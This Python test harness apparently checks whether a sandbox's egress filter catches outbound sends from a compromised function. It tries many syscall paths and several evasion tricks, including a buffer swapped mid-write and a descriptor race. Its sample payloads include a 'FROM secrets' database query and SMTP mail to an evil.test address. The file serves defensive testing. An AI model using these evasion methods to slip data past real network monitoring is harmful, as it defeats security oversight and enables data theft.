"""What an exploited function can do with a system call: each way of sending, and what it sends in each protocol.

Runs inside of a sandbox, with the standard library and PyMySQL. `run` does one case and says how it ended for the program: "sent", or
the name of the error.
"""

import contextlib
import ctypes
import errno
import os
import socket
import ssl
import struct
import tempfile
import threading
import time

LIBC = ctypes.CDLL(None, use_errno=True)
SECONDS = 20  # that nobody waits for but where something hangs
RACE_TRIES = 150
ZEROCOPY, SO_ZEROCOPY = 0x4000000, 60
SYS = {"io_setup": 206, "io_submit": 209, "io_uring_setup": 425, "setns": 308}


def check(returned, what):
    if returned < 0:
        raise OSError(ctypes.get_errno(), what)
    return returned


class Vector(ctypes.Structure):
    """struct iovec."""

    _fields_ = (("base", ctypes.c_char_p), ("length", ctypes.c_size_t))


# How bytes are handed to a connected stream socket.


def by_vector(s, data):
    """sendmmsg(2), by hand, since Python has none."""

    class Header(ctypes.Structure):
        _fields_ = (
            ("name", ctypes.c_void_p),
            ("name_length", ctypes.c_uint32),
            ("vectors", ctypes.POINTER(Vector)),
            ("count", ctypes.c_size_t),
            ("control", ctypes.c_void_p),
            ("control_length", ctypes.c_size_t),
            ("flags", ctypes.c_int),
            ("sent", ctypes.c_uint),
        )

    vector = Vector(data, len(data))
    header = Header(vectors=ctypes.pointer(vector), count=1)
    check(LIBC.sendmmsg(s.fileno(), ctypes.byref(header), 1, 0), "sendmmsg")


def by_file(s, data):
    with tempfile.TemporaryFile() as file:
        file.write(data)
        file.flush()
        os.sendfile(s.fileno(), file.fileno(), 0, len(data))


def by_pipe(s, data):
    readable, writable = os.pipe()
    os.write(writable, data)
    check(LIBC.splice(readable, None, s.fileno(), None, len(data), 0), "splice")


def by_tee(s, data):
    first, second = os.pipe(), os.pipe()
    os.write(first[1], data)
    check(LIBC.tee(first[0], second[1], len(data), 0), "tee")
    check(LIBC.splice(second[0], None, s.fileno(), None, len(data), 0), "splice")


def by_vmsplice(s, data):
    readable, writable = os.pipe()
    vector = Vector(data, len(data))
    check(LIBC.vmsplice(writable, ctypes.byref(vector), 1, 0), "vmsplice")
    check(LIBC.splice(readable, None, s.fileno(), None, len(data), 0), "splice")


def by_aio(s, data):
    """io_submit(2) with one IOCB_CMD_PWRITE."""
    context = ctypes.c_ulong(0)
    check(LIBC.syscall(SYS["io_setup"], 1, ctypes.byref(context)), "io_setup")
    buffer = ctypes.create_string_buffer(data, len(data))
    block = struct.pack("<QIIHhIQQqQII", 1, 0, 0, 1, 0, s.fileno(), ctypes.addressof(buffer), len(data), 0, 0, 0, 0)
    block = ctypes.create_string_buffer(block, len(block))
    pointer = ctypes.c_void_p(ctypes.addressof(block))
    check(LIBC.syscall(SYS["io_submit"], context, 1, ctypes.byref(pointer)), "io_submit")
    time.sleep(0.2)  # nothing announces that an asynchronous write has begun


def by_uring(_s, _data):
    check(LIBC.syscall(SYS["io_uring_setup"], 4, ctypes.create_string_buffer(120)), "io_uring_setup")


def in_child(work):
    pid = os.fork()
    if pid == 0:
        try:
            work()
        except OSError as error:
            os._exit(error.errno or 255)
        os._exit(0)
    status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if status:
        raise OSError(status, "in the child")


def by_program(s, data):
    os.set_inheritable(s.fileno(), True)
    program = "import os,sys\ntry: os.write(int(sys.argv[1]), bytes.fromhex(sys.argv[2]))\nexcept OSError as e: sys.exit(e.errno)"
    arguments = [os.sys.executable, "-c", program, str(s.fileno()), data.hex()]
    status = os.waitstatus_to_exitcode(os.waitpid(os.posix_spawn(os.sys.executable, arguments, dict(os.environ)), 0)[1])
    if status:
        raise OSError(status, "in the program")


def by_message(s, data):
    """The descriptor travels through a Unix socket first."""
    here, there = socket.socketpair()
    socket.send_fds(here, [b"x"], [s.fileno()])
    received = socket.recv_fds(there, 1, 1)[1][0]
    try:
        os.write(received, data)
    finally:
        os.close(received)


def by_reopening(s, data):
    """/proc/self/fd/N of a socket cannot be opened on Linux."""
    descriptor = os.open(f"/proc/self/fd/{s.fileno()}", os.O_WRONLY)
    try:
        os.write(descriptor, data)
    finally:
        os.close(descriptor)


def by_dup(s, data):
    descriptor = os.dup(s.fileno())
    try:
        os.write(descriptor, data)
    finally:
        os.close(descriptor)


def by_bytes(s, data):
    for at in range(len(data)):
        os.write(s.fileno(), data[at : at + 1])


def by_slow_bytes(s, data):
    for at in range(len(data)):
        os.write(s.fileno(), data[at : at + 1])
        time.sleep(0.002)


def by_more(s, data):
    s.send(data[:7], socket.MSG_MORE)
    s.send(data[7:])


def by_zerocopy(s, data):
    s.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
    s.send(data, ZEROCOPY)


def by_swap(s, data):
    """Another thread changes the buffer while it is written: what is judged must be what is sent."""
    harmless = b"GET /allowed HTTP/1.1\r\n" + data.split(b"\r\n", 1)[1]
    harmless = harmless.ljust(len(data), b"\n")[: len(data)]
    buffer = bytearray(harmless)
    stop = threading.Event()

    def change():
        while not stop.is_set():
            buffer[:] = data
            buffer[:] = harmless

    thread = threading.Thread(target=change)
    thread.start()
    try:
        os.write(s.fileno(), buffer)
    finally:
        stop.set()
        thread.join()


def by_race(s, data, send=os.write):
    """One thread writes to a descriptor that is a pipe and the socket in turn; few enough times for the capture to lose nothing.

    On a busy machine all of them may meet the pipe, which tries nothing: then there is another round.
    """
    end = time.monotonic() + SECONDS
    while not race(s, data, send):
        if time.monotonic() > end:
            raise TimeoutError("the socket was never written to")


def race(s, data, send):
    """RACE_TRIES writes; whether any of them went to the socket. Raises what the socket has answered last."""
    readable, writable = os.pipe()
    os.set_blocking(readable, False)
    os.set_blocking(writable, False)
    target, is_over, last = os.dup(writable), threading.Event(), None
    sent = piped = 0

    def drain():
        nonlocal piped
        with contextlib.suppress(BlockingIOError):
            while kept := os.read(readable, 65536):
                piped += len(kept)

    def change():
        while not is_over.is_set():
            os.dup2(s.fileno(), target)
            os.dup2(writable, target)
            drain()

    changer = threading.Thread(target=change)
    changer.start()
    try:
        for _ in range(RACE_TRIES):
            try:
                sent += send(target, data)
            except BlockingIOError:  # the pipe is full
                continue
            except OSError as error:
                last = error
    finally:
        is_over.set()
        changer.join()
    drain()
    for descriptor in (readable, writable, target):
        os.close(descriptor)
    if last is not None:
        raise last
    return sent > piped


def pwritev2(descriptor, data):
    vector = Vector(data, len(data))
    LIBC.pwritev2.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int, ctypes.c_long, ctypes.c_int]
    return LIBC.pwritev2(descriptor, ctypes.addressof(vector), 1, -1, 0)


WAYS = {
    "write": lambda s, data: os.write(s.fileno(), data),
    "writev": lambda s, data: os.writev(s.fileno(), [data[:5], data[5:]]),
    "pwritev2": lambda s, data: check(pwritev2(s.fileno(), data), "pwritev2"),
    "pwrite64": lambda s, data: os.pwrite(s.fileno(), data, 0),
    "send": lambda s, data: s.send(data),
    "sendmsg": lambda s, data: s.sendmsg([data[:9], data[9:]]),
    "sendmmsg": by_vector,
    "sendfile": by_file,
    "splice": by_pipe,
    "tee and splice": by_tee,
    "vmsplice and splice": by_vmsplice,
    "io_submit": by_aio,
    "io_uring": by_uring,
    "MSG_OOB": lambda s, data: s.send(data, socket.MSG_OOB),
    "MSG_MORE": by_more,
    "MSG_ZEROCOPY": by_zerocopy,
    "single bytes": by_bytes,
    "slow bytes": by_slow_bytes,
    "child": lambda s, data: in_child(lambda: os.write(s.fileno(), data)),
    "program": by_program,
    "SCM_RIGHTS": by_message,
    "/proc/self/fd": by_reopening,
    "dup": by_dup,
    "swapped buffer": by_swap,
    "descriptor race": by_race,
}


# What is sent, once a connection stands. Each gives the socket and the bytes.


def dial(to, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(SECONDS)
    s.connect(tuple(to))
    s.setblocking(True)  # a time-out would make it non-blocking underneath
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", SECONDS, 0))
    return s


def http(to, marker):
    return dial(to), f"GET /{marker} HTTP/1.1\r\nHost: web.test\r\n\r\n".encode()


def stranger(to, marker):
    return dial(to), f"{marker}\n".encode()


def gateway(to, marker):
    return dial(to), f"POST /function/{marker} HTTP/1.1\r\nHost: gateway.test:8080\r\nContent-Length: 0\r\n\r\n".encode()


def mapped(to, marker):
    return dial(("::ffff:" + to[0], to[1]), socket.AF_INET6), f"GET /{marker} HTTP/1.1\r\nHost: web.test\r\n\r\n".encode()


class Tls:
    """A TLS client whose records are ours to send."""

    def __init__(self, to, name, *, context=None, alpn=()):
        self.socket = dial(to)
        context = context or ssl.create_default_context()
        if alpn:
            context.set_alpn_protocols(alpn)
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.incoming, self.outgoing, server_hostname=name)
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self.flush()
                data = self.socket.recv(65536)
                if not data:
                    raise ConnectionResetError(errno.ECONNRESET, "in the handshake") from None
                self.incoming.write(data)
        self.flush()

    def flush(self):
        if data := self.outgoing.read():
            self.socket.sendall(data)

    def sealed(self, data):
        self.tls.write(data)
        return self.outgoing.read()


def https(to, marker):
    tls = Tls(to, "tls.test")
    return tls.socket, tls.sealed(f"GET /{marker} HTTP/1.1\r\nHost: tls.test:4443\r\n\r\n".encode())


def mysql(to, marker):
    import pymysql

    database = pymysql.connect(host=to[0], port=to[1], user="abc", password="xyz", database="helloRetail", ssl_disabled=True, connect_timeout=SECONDS)
    s = socket.socket(fileno=os.dup(database._sock.fileno()))
    s.setblocking(True)
    body = b"\x03" + f"SELECT id, '{marker}' FROM secrets".encode()  # noqa: S608  # it is to be refused
    return s, struct.pack("<I", len(body)) + body


def smtp(to, marker):
    s = dial(to)
    s.recv(512)
    for line in (b"EHLO function\r\n", b"MAIL FROM:<function@shop.test>\r\n"):
        s.sendall(line)
        s.recv(512)
    return s, f"RCPT TO:<{marker}@evil.test>\r\n".encode()


PROTOCOLS = {"http": http, "stranger": stranger, "gateway": gateway, "mapped": mapped, "https": https, "mysql": mysql, "smtp": smtp}


def name_of(error):
    return errno.errorcode.get(error.errno or 0, type(error).__name__)


def run(way, protocol, to, marker):
    """One case. The connection is read from afterwards, so that what was sent has arrived when this returns."""
    try:
        s, data = PROTOCOLS[protocol](to, marker)
    except OSError as error:
        return f"connect {name_of(error)}"
    with s:
        try:
            WAYS[way](s, data)
        except OSError as error:
            return name_of(error)
        s.settimeout(0.3)
        try:
            s.recv(65536)
        except TimeoutError:
            pass
        except OSError as error:
            return f"read {name_of(error)}"
    return "sent"
